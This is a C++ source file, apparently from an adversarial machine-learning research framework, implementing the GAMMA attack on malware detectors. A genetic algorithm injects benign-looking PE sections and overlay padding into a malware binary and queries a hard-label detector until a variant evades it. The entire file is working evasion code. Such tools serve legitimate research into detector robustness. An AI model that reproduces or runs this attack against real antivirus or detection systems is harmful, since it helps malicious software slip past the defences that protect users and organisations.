#include "attack/gamma.hpp"

#include "obs/span.hpp"
#include "pe/pe.hpp"

namespace mpass::attack {

using util::ByteBuf;

constexpr std::size_t kLibrarySections = 24;  // harvested donor sections
constexpr std::size_t kPopulation = 8;
constexpr double kMutationRate = 0.15;

Gamma::Gamma(std::span<const ByteBuf> benign_pool) {
  // Harvest a section library from the benign donors (the fixed "benign
  // content library" GAMMA ships with).
  for (const ByteBuf& donor : benign_pool) {
    if (library_.size() >= kLibrarySections) break;
    pe::PeFile pe;
    try {
      pe = pe::PeFile::parse(donor);
    } catch (const util::ParseError&) {
      continue;
    }
    for (const pe::Section& s : pe.sections) {
      if (library_.size() >= kLibrarySections) break;
      if (s.data.size() < 256 || s.executable()) continue;
      library_.push_back({s.name, s.data});
    }
    if (pad_source_.size() < 65536)
      pad_source_.insert(pad_source_.end(), donor.begin(), donor.end());
  }
  if (pad_source_.empty()) pad_source_.assign(4096, 0);
}

ByteBuf Gamma::express(const pe::PeFile& base, const Genome& g) const {
  pe::PeFile pe = base;  // copy: add_section/overlay mutate the layout
  for (std::size_t i = 0; i < library_.size() && i < g.use.size(); ++i) {
    if (!g.use[i] || pe.sections.size() >= 28) continue;
    pe.add_section(library_[i].name, library_[i].data,
                   pe::kScnInitializedData | pe::kScnMemRead);
  }
  for (std::uint32_t i = 0; i < g.overlay_pad; ++i)
    pe.overlay.push_back(pad_source_[i % pad_source_.size()]);
  return pe.build();
}

AttackResult Gamma::run(std::span<const std::uint8_t> malware,
                        detect::HardLabelOracle& oracle, std::uint64_t seed) {
  OBS_SCOPE("attack.gamma.run");
  util::Rng rng(seed);
  AttackResult result;
  result.adversarial.assign(malware.begin(), malware.end());

  // Parse the base malware once; every genome expression copies the parsed
  // structure instead of re-parsing the same bytes per query.
  pe::PeFile base;
  try {
    base = pe::PeFile::parse(malware);
  } catch (const util::ParseError&) {
    // Unparseable input: no genome could ever be expressed, so spend no
    // queries (the old per-express parse failed identically every time).
    return result;
  }

  auto random_genome = [&] {
    Genome g;
    g.use.resize(library_.size());
    for (std::size_t i = 0; i < library_.size(); ++i)
      g.use[i] = rng.chance(0.5);
    g.overlay_pad = static_cast<std::uint32_t>(rng.range(0, 16384));
    return g;
  };

  struct Scored {
    Genome g;
    bool evaded = false;
    std::size_t size = 0;
  };
  auto evaluate = [&](const Genome& g) -> Scored {
    ByteBuf sample;
    try {
      sample = express(base, g);
    } catch (const util::ParseError&) {
      return {g, false, static_cast<std::size_t>(-1)};
    }
    const bool detected = oracle.query(sample);
    if (!detected && (!result.success ||
                      sample.size() < result.adversarial.size())) {
      result.success = true;
      result.adversarial = sample;
    }
    return {g, !detected, sample.size()};
  };
  // Fitness: evasion dominates; smaller payload breaks ties.
  auto better = [](const Scored& a, const Scored& b) {
    if (a.evaded != b.evaded) return a.evaded;
    return a.size < b.size;
  };

  std::vector<Scored> population;
  for (std::size_t i = 0; i < kPopulation && !oracle.exhausted(); ++i)
    population.push_back(evaluate(random_genome()));

  while (!oracle.exhausted() && !population.empty()) {
    if (result.success) break;  // hard-label: first evasion wins
    // Tournament parents.
    auto pick_parent = [&]() -> const Genome& {
      const Scored& a = population[rng.below(population.size())];
      const Scored& b = population[rng.below(population.size())];
      return better(a, b) ? a.g : b.g;
    };
    const Genome& pa = pick_parent();
    const Genome& pb = pick_parent();
    Genome child;
    child.use.resize(library_.size());
    for (std::size_t i = 0; i < library_.size(); ++i) {
      child.use[i] = (rng.chance(0.5) ? pa.use[i] : pb.use[i]);
      if (rng.chance(kMutationRate)) child.use[i] = !child.use[i];
    }
    child.overlay_pad = rng.chance(0.5) ? pa.overlay_pad : pb.overlay_pad;
    if (rng.chance(kMutationRate))
      child.overlay_pad = static_cast<std::uint32_t>(rng.range(0, 16384));

    Scored scored = evaluate(child);
    // Replace the worst individual.
    std::size_t worst = 0;
    for (std::size_t i = 1; i < population.size(); ++i)
      if (better(population[worst], population[i])) worst = i;
    if (better(scored, population[worst])) population[worst] = std::move(scored);
  }

  return result;
}

}  // namespace mpass::attack
